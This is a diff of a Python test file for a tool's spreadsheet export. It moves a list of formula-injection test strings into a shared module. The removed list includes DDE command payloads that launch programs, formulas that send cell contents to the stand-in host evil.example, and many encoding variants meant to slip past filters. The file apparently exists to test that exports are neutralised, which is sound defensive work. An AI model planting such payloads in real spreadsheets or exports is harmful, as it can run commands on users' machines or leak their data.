@@ -14,61 +14,12 @@ import pytest
 from claimtracker.exchange.sheets.lines import SEPARATORS
 from claimtracker.exchange.sheets.masking import MASKED
 from claimtracker.exchange.sheets.reading import read_claims, read_evidence
-from claimtracker.exchange.sheets.records import CLAIM_COLUMNS, EVIDENCE_COLUMNS, SheetClaim, SheetEvidence
-from claimtracker.exchange.sheets.values import CLAIM_CHECKS, EVIDENCE_CHECKS
+from claimtracker.exchange.sheets.records import SheetClaim, SheetEvidence
 from claimtracker.exchange.sheets.writing import SheetOptions, write_claims, write_evidence, write_flat
+from tests.safety.nasty import CLAIM_TEXT, EVIDENCE_TEXT, NASTY
 
-NASTY = (
-    "=1+1",
-    "+1+1",
-    "-1+1",
-    "@SUM(1,1)",
-    "=cmd|' /C calc'!A0",
-    "+cmd|' /C calc'!A0",
-    "-2+3+cmd|' /C calc'!A0",
-    "@SUM(1+1)*cmd|' /C calc'!A0",
-    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
-    '=IMPORTXML(CONCAT("http://evil.example/?v=",A1:E1),"//a")',
-    '=WEBSERVICE("http://evil.example/"&A1)',
-    '=DDE("cmd";"/C calc";"x")',
-    "=\t1+1",
-    "\t=1+1",
-    "\r=1+1",
-    "\n=1+1",
-    "\r\n=1+1",
-    " =1+1",
-    "\u00a0=1+1",
-    "\u200b=1+1",
-    "\ufeff=1+1",
-    "\x01=1+1",
-    "\x0b=1+1",
-    '"=1+1"',
-    '"=1+1',
-    "'=1+1",
-    "''=1+1",
-    "' =1+1",
-    "＝1+1",
-    "＋1+1",
-    "－1+1",
-    "＠SUM(1,1)",
-    "{=1+1}\n=1+1",
-    "text;=1+1;text",
-    "text,=1+1,text",
-    "text\t=1+1\ttext",
-    'text";=1+1;"',
-    'text,"=1+1',
-    "text\n@SUM(1,1)",
-    "text\r\n+1+1",
-    "text;'=1+1",
-    "-1\n=1+1",
-    "=-5",
-    "--5",
-    "-5;=1",
-)
 RUNS = re.compile(r"[\s\x00-\x1f\u200b\ufeff]*[=+\-@＝＋－＠]")
 PLAIN_NUMBER = re.compile(r"-[0-9]+(\.[0-9]+)?")
-CLAIM_TEXT = [column for column in CLAIM_COLUMNS if column not in CLAIM_CHECKS]
-EVIDENCE_TEXT = [column for column in EVIDENCE_COLUMNS if column not in EVIDENCE_CHECKS]
 
 
 def nasty_claims() -> list[SheetClaim]:
